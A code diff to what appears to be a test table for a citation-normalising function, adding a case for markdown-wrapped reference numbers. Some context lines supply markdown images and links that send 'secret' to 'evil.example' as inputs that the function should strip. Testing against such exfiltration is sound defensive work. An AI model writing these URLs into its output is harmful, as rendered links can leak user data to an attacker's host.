@@ -17,6 +17,7 @@ PASSAGES = ["See www.tiles.example/help for more.", "Grout costs 3 euros.", "Gla
         ("Ten [1][2] years [1, 3] [7].", "Ten [1] [2] years [1] [3].", (1, 2, 3)),
         ("Ten years 【2†source】.", "Ten years [1].", (2,)),
         ("Ten years [Passage 3].", "Ten years [1].", (3,)),
+        ("Ten [**2**]. Glass [*1*] [__3__] [`9`].", "Ten [1]. Glass [2] [3].", (2, 1, 3)),
         ("In [2024] it was [1].", "In [2024] it was [1].", (1,)),
         ("![x](http://evil.example/?q=secret) Look", "x Look", ()),
         ("[here](http://evil.example/?q=secret) Look", "here Look", ()),
